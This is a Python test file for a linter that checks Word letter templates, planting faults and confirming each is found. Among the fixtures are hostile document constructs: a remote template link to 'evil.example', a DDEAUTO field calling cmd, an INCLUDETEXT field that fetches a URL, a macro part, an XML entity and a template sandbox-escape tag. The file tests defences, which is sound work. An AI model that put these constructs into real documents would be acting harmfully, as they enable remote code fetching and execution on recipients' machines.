"""The linter finds each kind of fault when it is planted, says what to do, and finds nothing in what is shipped."""

import re
from collections.abc import Callable

import pytest

from app.documents.canonical import pack, unpack
from app.documents.letters import LETTERS, letters
from app.documents.lint import Finding, lint, main
from app.documents.ooxml import MAIN
from app.documents.paper import Column, Paper, Table, build

Change = Callable[[dict[str, bytes]], None]
DOCUMENT, STYLES, HEADER, FOOTER = "word/document.xml", "word/styles.xml", "word/header1.xml", "word/footer1.xml"
RELS = "word/_rels/document.xml.rels"


def swap(part: str, old: bytes, new: bytes) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[part], (part, old)
        parts[part] = parts[part].replace(old, new, 1)

    return change


def into_body(xml: str) -> Change:
    return swap(DOCUMENT, b"<w:body>", b"<w:body>" + xml.encode())


def add(name: str, data: bytes) -> Change:
    return lambda parts: parts.update({name: data})


def words(text: str) -> bytes:
    return build(Paper("T {{ reference }}", (f"# A heading\n\n{text}",)))


def changed(change: Change) -> bytes:
    parts = unpack(words("Dear {{ recipient.name }}"))
    change(parts)
    return pack(parts)


LINK = (
    b'<Relationship Id="rId99" Type="http://x/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:docPr id="1" name="logo"/></wp:inline></w:drawing></w:r></w:p>'
)
TEXTS = {
    "a slip in a name": ("{{ recipient.nmae }}", "DATA1"),
    "a slip in a loop": ("{% for e in explanation %}\n{{ e.text }}\n{% endfor %}", "DATA1"),
    "a fact of another letter": ("{{ target }}", "DATA1"),
    "a loop over no list": ("{% for x in reference %}\n{{ x }}\n{% endfor %}", "DATA1"),
    "an unguarded optional fact": ("{{ refund.pence|money }}", "DATA2"),
    "a guard turned round": ("{% if not refund %}{{ refund.how }}{% endif %}", "DATA2"),
    "a bare date": ("{{ notice_on }}", "DATA3"),
    "a date filter on text": ("{{ reference|long_date }}", "DATA3"),
    "a bare list": ("{{ explanation }}", "DATA3"),
    "bare pence": ("{{ paid_pence }}", "DATA3"),
    "an unclosed tag": ("{% if draft %}\n\nx", "TPL2"),
    "a set": ("{% set x = 1 %}", "TPL3"),
    "a macro": ("{% macro m() %}{% endmacro %}", "TPL3"),
    "an import": ("{% include 'x' %}", "TPL3"),
    "a way out of the sandbox": ("{{ recipient.__class__ }}", "TPL4"),
    "a call": ("{{ recipient.name.upper() }}", "TPL5"),
    "words beside a paragraph tag": ("{%p if draft %} You must pay. {%p endif %}", "TPL6"),
    "an if over two paragraphs": ("Pay {% if draft %}now\n\nor later{% endif %}", "TPL7"),
    "an unknown filter": ("{{ notice_on|datelong }}", "TPL8"),
    "an unknown test": ("{% if draft is callable %}x{% endif %}", "TPL8"),
    "a written-out sum": ("You must pay £160.", "WORDS1"),
    "a written-out period": ("You have 28 days.", "WORDS1"),
    "a written-out date": ("Pay by 4 September.", "WORDS1"),
    "a threat": ("You will be prosecuted.", "WORDS2"),
    "a grade": ("Attendance is not satisfactory.", "WORDS2"),
    "blame": ("Truancy is wrong.", "WORDS2"),
}
CHANGES: dict[str, tuple[Change, str]] = {
    "a macro": (add("word/vbaProject.bin", b"x"), "SEC1"),
    "an embedded file": (add("word/embeddings/a.bin", b"x"), "SEC1"),
    "a remote template": (swap(RELS, b"</Relationships>", LINK + b"</Relationships>"), "SEC2"),
    "a field that fetches": (
        into_body('<w:p><w:r><w:instrText>INCLUDETEXT "http://x"</w:instrText></w:r></w:p>'),
        "SEC3",
    ),
    "a simple field": (into_body('<w:p><w:fldSimple w:instr="DDEAUTO c cmd"/></w:p>'), "SEC3"),
    "a tracked change": (into_body('<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>y</w:t></w:r></w:ins></w:p>'), "EDIT1"),
    "a comment": (
        add(
            "word/comments.xml",
            f'<w:c xmlns:w="{MAIN}"><w:comment/></w:c>'.encode(),
        ),
        "EDIT2",
    ),
    "hidden text": (into_body("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"), "EDIT3"),
    "a tag where none is filled": (add("customXml/item1.xml", b"<a>{{ reference }}</a>"), "TPL1"),
    "a foreign language": (swap(STYLES, b'w:lang w:val="en-GB"', b'w:lang w:val="en-US"'), "A11Y1"),
    "no title": (swap("docProps/core.xml", b"T {{ reference }}", b""), "A11Y2"),
    "small type": (swap(STYLES, b'<w:sz w:val="24"/>', b'<w:sz w:val="20"/>'), "A11Y3"),
    "justified text": (into_body('<w:p><w:pPr><w:jc w:val="both"/></w:pPr></w:p>'), "A11Y4"),
    "a table without a header row": (into_body("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"), "A11Y5"),
    "a picture without words": (into_body(PICTURE), "A11Y6"),
    "a text box": (into_body("<w:p><w:r><w:txbxContent/></w:r></w:p>"), "A11Y7"),
    "a skipped heading level": (swap(DOCUMENT, b'w:val="Heading1"', b'w:val="Heading2"'), "A11Y8"),
    "no heading": (swap(DOCUMENT, b'w:val="Heading1"', b'w:val="Close"'), "A11Y8"),
    "letter paper": (swap(DOCUMENT, b'w:w="11906" w:h="16838"', b'w:w="12240" w:h="15840"'), "PAGE1"),
    "another first page": (swap(DOCUMENT, b"</w:sectPr>", b"<w:titlePg/></w:sectPr>"), "PAGE2"),
    "no draft mark": (swap(HEADER, b"DRAFT", b"NOTE"), "PAGE3"),
    "no reference": (swap(FOOTER, b"{{ reference }}", b""), "PAGE4"),
    "no page count": (swap(FOOTER, b"NUMPAGES", b"PAGE"), "PAGE5"),
    "entities": (
        lambda parts: parts.update({HEADER: b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        "FILE1",
    ),
    "no styles": (lambda parts: parts.pop(STYLES) and None, "FILE1"),
}


def rules(found: tuple[Finding, ...]) -> set[str]:
    assert all(re.fullmatch(r"[A-Z0-9]+\d", f.rule) and f.where and f.says for f in found)
    return {finding.rule for finding in found}


@pytest.mark.parametrize("letter", letters())
def test_nothing_is_found_in_what_is_shipped(letter: str) -> None:
    assert lint((LETTERS / f"{letter}.docx").read_bytes(), letter) == ()


def test_nothing_is_found_in_the_sound_template_that_faults_are_planted_in() -> None:
    sound = "{% if refund %}{{ refund.pence|money }} by {{ refund.by|long_date }}{% endif %}"
    assert lint(words(sound), "withdrawal") == ()
    assert lint(changed(lambda parts: None), "withdrawal") == ()


@pytest.mark.parametrize(("text", "rule"), TEXTS.values(), ids=TEXTS)
def test_a_fault_in_the_words_is_found(text: str, rule: str) -> None:
    assert rule in rules(lint(words(text), "withdrawal"))


@pytest.mark.parametrize(("change", "rule"), CHANGES.values(), ids=CHANGES)
def test_a_fault_in_the_file_is_found_and_nothing_else(change: Change, rule: str) -> None:
    assert rules(lint(changed(change), "withdrawal")) == {rule}


def test_a_tag_that_word_split_over_runs_is_read_whole() -> None:
    split = swap(DOCUMENT, b"recipient.name", b'reci</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:t>pient.nmae')
    assert rules(lint(changed(split), "withdrawal")) == {"DATA1"}


def test_a_loop_reads_the_items_of_its_list() -> None:
    table = Table("T", "s in sessions", (Column("C", 160, "{{ s.date|long_date }} {{ s.marks }}"),))
    found = lint(build(Paper("T {{ reference }}", ("# H", table))), "warning")
    assert [(f.rule, f.says.split(",")[0]) for f in found] == [("DATA1", "reads sessions[].marks")]


def test_what_is_no_zip_is_a_finding() -> None:
    assert rules(lint(b"hello", "warning")) == {"FILE1"}


def test_the_command_says_what_it_found(tmp_path: object, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["warning", str(LETTERS / "warning.docx")]) == 0
    assert capsys.readouterr().out == "nothing found\n"
    assert main(["withdrawal", str(LETTERS / "warning.docx")]) == 1
    assert "reads sessions, which this letter does not hold" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ([], "Say which letter and which files"),
        (["warning"], "Say which letter and which files"),
        (["nope", str(LETTERS / "warning.docx")], "There is no document 'nope'. There are: "),
        (["warning", "nowhere.docx"], "nowhere.docx: No such file or directory. Check its name."),
    ],
)
def test_what_cannot_be_linted_is_refused_in_words(
    arguments: list[str], says: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(arguments) == 2
    assert capsys.readouterr().out.startswith(says)
